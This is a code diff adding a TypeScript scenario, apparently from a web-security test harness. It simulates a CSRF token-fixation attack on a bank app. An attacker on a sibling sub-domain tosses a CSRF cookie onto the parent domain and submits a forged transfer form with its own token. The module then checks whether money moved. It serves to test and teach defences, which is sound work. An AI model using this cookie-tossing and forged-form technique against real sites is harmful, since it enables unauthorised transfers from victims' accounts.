@@ -1,0 +1,27 @@
+import type { Attack } from '../stage.ts'
+import { PARENT } from '../world/hosts.ts'
+import { formOf, headersOf } from './plant.ts'
+
+export const attack: Attack = {
+  title: 'A CSRF token fixed after the login',
+  who: 'somebody who has another sub-domain of the bank’s site',
+  story:
+    'Where the secret behind the tokens is in a cookie of its own, the attacker’s secret is tossed over it while the victim is logged in, and the attacker’s token is good from then on.',
+  decides: 'whether the bank has made a transfer in the victim’s name',
+  async play({ app, victim, attacker, site, tell }) {
+    await attacker.visit('/login')
+    const field = attacker.page.locator('input[name=_csrf]').first()
+    const token = (await field.count()) > 0 ? await field.inputValue() : undefined
+    if (token === undefined) return { verdict: 'not possible', note: 'its forms carry no token; see the forged request' }
+    const secrets = (await attacker.cookies()).filter(({ name }) => /csrf/i.test(name))
+    await tell('The attacker opens the bank, and notes the cookie of its CSRF protection, if there is one, and the token in its form.')
+    await victim.logIn('ann')
+    await tell('The victim logs in.')
+    await victim.visit(site.bait('sibling', { headers: headersOf(secrets, `Domain=${PARENT}; Path=/transfer; Secure; HttpOnly`) }))
+    await victim.visit(site.bait('sibling', { html: formOf(app.url('/transfer'), { to: 'eve', _csrf: token }) }))
+    await victim.page.waitForURL(`${app.origin}/**`)
+    await tell('The victim opens pages of the attacker’s, which set this cookie for the transfer and send the form with the attacker’s token.')
+    const isForged = (await app.transfers()).some(({ from }) => from === 'ann')
+    return { verdict: isForged ? 'forged' : 'safe' }
+  },
+}
